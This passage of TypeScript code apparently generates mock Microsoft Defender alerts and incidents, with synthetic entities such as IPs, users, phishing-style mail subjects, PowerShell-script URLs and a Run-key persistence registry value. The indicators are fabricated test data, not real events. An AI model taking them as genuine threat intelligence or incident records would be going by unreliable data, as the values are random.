        });
        break;
      case "Ip":
        out.push({ ...base, ipAddress: o.ipAddress ?? publicIp(r), countryLetterCode: r.pick(COUNTRIES) });
        break;
      case "Url":
        out.push({ ...base, url: o.url ?? `http://${domain}/${r.pick(["a.ps1", "invoice", "login", "update.ps1", "doc"])}` });
        break;
      case "User":
        out.push({
          ...base,
          accountName: o.accountName ?? user.accountName,
          domainName: user.domainName,
          userSid: user.userSid,
          aadUserId: user.aadUserId,
          userPrincipalName: o.userPrincipalName ?? user.upn,
          displayName: user.displayName,
        });
        break;
      case "MailBox":
        out.push({
          ...base,
          userPrincipalName: o.userPrincipalName ?? user.upn,
          mailboxDisplayName: user.displayName,
          mailboxAddress: user.upn,
          aadUserId: user.aadUserId,
          accountName: user.accountName,
          domainName: user.domainName,
          userSid: user.userSid,
        });
        break;
      case "MailMessage":
        out.push({
          ...base,
          userPrincipalName: user.upn,
          sender: o.sender ?? mailSender,
          recipient: user.upn,
          subject: o.subject ?? r.pick(["[EXTERNAL] Attention", "Invoice overdue", "Your password expires today", "Shared document: Q3 results"]),
          deliveryAction: r.pick(["Delivered", "Blocked", "Junked"]),
          networkMessageId: r.guid(),
          internetMessageId: `<${r.hex(24)}@${domain}>`,
          ipAddress: publicIp(r),
          url: `http://${domain}/login`,
        });
        break;
      case "MailCluster":
        out.push({ ...base, clusterBy: r.pick(["Subject;P2SenderDomain;ContentType", "BodyFingerprintBin1;SenderIp;ContentType"]) });
        break;
      case "Registry":
        out.push({
          ...base,
          registryHive: "HKEY_CURRENT_USER",
          registryKey: o.registryKey ?? "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
          registryValueType: "String",
          registryValueName: "Updater",
          registryValue: o.registryValue ?? `C:\\Users\\${user.accountName}\\AppData\\Roaming\\updater.exe`,
          deviceId: dev,
        });
        break;
      case "SecurityGroup":
        out.push({ ...base, securityGroupId: r.guid(), securityGroupName: "Domain Admins" });
        break;
    }
  }
  return out;
}

function alertStatus(s: IncidentStatus): AlertView["status"] {
  return s === "Resolved" ? "Resolved" : s === "InProgress" ? "InProgress" : "New";
}

export function alertView(seed: string, data: TenantData, inc: IncidentRec, a: AlertRec, n: number): AlertView {
  const tpl = TEMPLATES[a.t]!;
  const r = new Rng(`${seed}|${data.tenantId}|alert|${inc.id}|${n}`);
  const o = inc.overrides ?? {};
  const devices =
    tpl.service === "MDE" ? inc.devices.map((d) => data.devices[d]!).map((d) => (o.deviceDnsName ? { ...d, deviceDnsName: o.deviceDnsName } : d)) : [];
  const user = data.users[inc.user]!;
  const status = alertStatus(inc.status);
  const classified = inc.classification !== "Unknown";
  const firstActivityMs = a.createdMs - r.int(60_000, 3_600_000);
  const endpoint = tpl.service === "MDE";
  return {
    alertId: a.id,
    incidentId: inc.id,
    template: tpl,
    title: n === 0 && o.alertTitle !== undefined ? o.alertTitle : tpl.title,
    description: n === 0 && o.alertDescription !== undefined ? o.alertDescription : tpl.description,
    severity: tpl.severity,
    status,
    classification: classified ? inc.classification : null,
    determination: classified ? inc.determination : null,
    assignedTo: inc.assignedTo,
    createdMs: a.createdMs,
    lastUpdatedMs: Math.max(a.createdMs, inc.lastUpdateMs),
    resolvedMs: status === "Resolved" ? inc.lastUpdateMs : null,
    firstActivityMs,
    lastActivityMs: Math.min(a.createdMs - 1_000, firstActivityMs + r.int(0, 1_800_000)),
    investigationId: endpoint && r.chance(0.6) ? 700_000 + (seed32(`${data.tenantId}|inv|${inc.id}`) % 200_000) : null,
    investigationState: endpoint
      ? status === "Resolved"
        ? r.pick(["SuccessfullyRemediated", "Benign", "TerminatedBySystem"])
        : r.pick(["Queued", "Running", "PendingApproval"])
      : "UnsupportedAlertType",
    detectorId: detectorId(tpl.title),
    threatFamilyName: o.threatFamilyName ?? tpl.threatFamilyName,
    threatName: tpl.threatFamilyName ? `HackTool:Win32/${tpl.threatFamilyName}` : null,
    actorName: tpl.actorName,
    devices,
    user,
    entities: alertEntities(seed, data, inc, a, n, devices, user),
  };
}

export function incidentSeverity(data: TenantData, inc: IncidentRec): Severity {
  if (inc.severityOverride) return inc.severityOverride;
  let best: Severity = "Informational";
  for (const a of inc.alerts) if (SEVERITY_RANK[TEMPLATES[a.t]!.severity] > SEVERITY_RANK[best]) best = TEMPLATES[a.t]!.severity;
  return best;
}

export function incidentName(data: TenantData, inc: IncidentRec): string {
  if (inc.overrides?.incidentName !== undefined) return inc.overrides.incidentName;
  const tpls = inc.alerts.map((a) => TEMPLATES[a.t]!);
  const first = tpls[0]!;
  const where = inc.devices.length === 1 ? " on one endpoint" : inc.devices.length > 1 ? " on multiple endpoints" : "";
  const sources = new Set(tpls.map((t) => t.service)).size > 1 ? " reported by multiple sources" : "";
  const cats = [...new Set(tpls.map((t) => t.category))];
  if (tpls.length === 1)
    return first.service === "MDE" ? `${first.title}${where}` : first.service === "MDO" ? first.title : `${first.title} involving one user`;
  if (cats.length >= 2) {
    return `Multi-stage incident involving ${CATEGORY_LABEL[cats[0]!] ?? cats[0]} & ${CATEGORY_LABEL[cats[1]!] ?? cats[1]}${where}${sources}`;
  }
  return `${CATEGORY_LABEL[cats[0]!] ?? cats[0]} incident${where}${sources}`;
}

export function incidentView(seed: string, data: TenantData, inc: IncidentRec): IncidentView {
  const name = incidentName(data, inc);
  return {
    rec: inc,
    name,
    description:
      inc.overrides?.description ??
      `Microsoft Defender correlated ${inc.alerts.length} alert${inc.alerts.length === 1 ? "" : "s"} into this incident: ${name}.`,
    severity: incidentSeverity(data, inc),
    alerts: inc.alerts.map((a, n) => alertView(seed, data, inc, a, n)),
  };
}
